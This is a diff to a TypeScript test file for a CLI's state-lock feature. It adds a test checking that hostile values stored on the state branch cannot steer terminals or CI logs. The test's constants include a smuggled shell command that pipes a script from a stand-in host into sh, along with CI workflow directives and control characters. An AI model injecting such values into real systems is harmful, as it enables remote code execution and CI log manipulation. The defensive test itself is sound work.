@@ -11,10 +11,11 @@ import { type CommandLine, PATIENT, useAppliedCommandLine } from './command-line
 const NO_BRANCH = 'there is no state branch yet: the first apply makes it\n';
 
 /** Somebody else's run holds the lock. */
-async function hold({ root }: CommandLine) {
+async function hold({ root }: CommandLine, who = 'ci run 17', ownNonce?: string) {
   const clock = machineClock;
-  const store = openStateStore({ root, repo: '.postilion/state.git', branch: 'postilion-state', clock });
-  const wish = { who: 'ci run 17', run: null, commit: null, seconds: 900 };
+  const place = { root, repo: '.postilion/state.git', branch: 'postilion-state', clock };
+  const store = openStateStore(ownNonce === undefined ? place : { ...place, nonce: () => ownNonce });
+  const wish = { who, run: null, commit: null, seconds: 900 };
   const reading = await store.read();
   const answer = await store.acquireLock(wish, {}, reading.status === 'found' ? reading.state.revision : null);
   await store.close();
@@ -59,6 +60,34 @@ test.concurrent(
     expect(await bench.run(['state', 'unlock', nonce])).toMatchObject({ code: 0, out: 'nobody holds the lock\n' });
   },
 );
+
+/** What somebody who may write to the state branch could have others read and paste. */
+const HOSTILE = 'ci\n::error::x\r\u001b[31m\u202e ##[error]y ##vso[task.setvariable]z';
+const HOSTILE_NONCE = 'x"; curl https://e.example | sh #\n::set-output name=a::b';
+const STEERING = /[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}]|^\s*::|##\[|##vso\[/mu;
+
+test.concurrent('what the state branch holds steers no terminal and stands in no command', PATIENT, async (context) => {
+  const bench = await useAppliedCommandLine(context);
+  expect((await bench.run(['state', 'rebuild', '--yes'])).code).toBe(0);
+  await hold(bench, HOSTILE, HOSTILE_NONCE);
+  bench.change('profiles/it.yaml', 'Mail - IT', 'Mail - IT staff');
+  const commands = [
+    ['state', 'show'],
+    ['state', 'show', '--format', 'json'],
+    ['state', 'unlock', 'other'],
+    ['state', 'rebuild', '--yes'],
+    ['apply'],
+    ['apply', '--format', 'json'],
+  ];
+  for (const command of commands) {
+    const { code, out, err } = await bench.run(command, { COLUMNS: '400' });
+    expect(code).toBe(command[1] === 'show' ? 0 : 6);
+    const said = `${out}${err}`;
+    expect(said).toMatch(/vso/);
+    expect(said).not.toMatch(STEERING);
+    expect(said).not.toContain('state unlock x');
+  }
+});
 
 test.concurrent('a suspended tenant is not even read; a suspended profile waits alone', PATIENT, async (context) => {
   const bench = await useAppliedCommandLine(context);
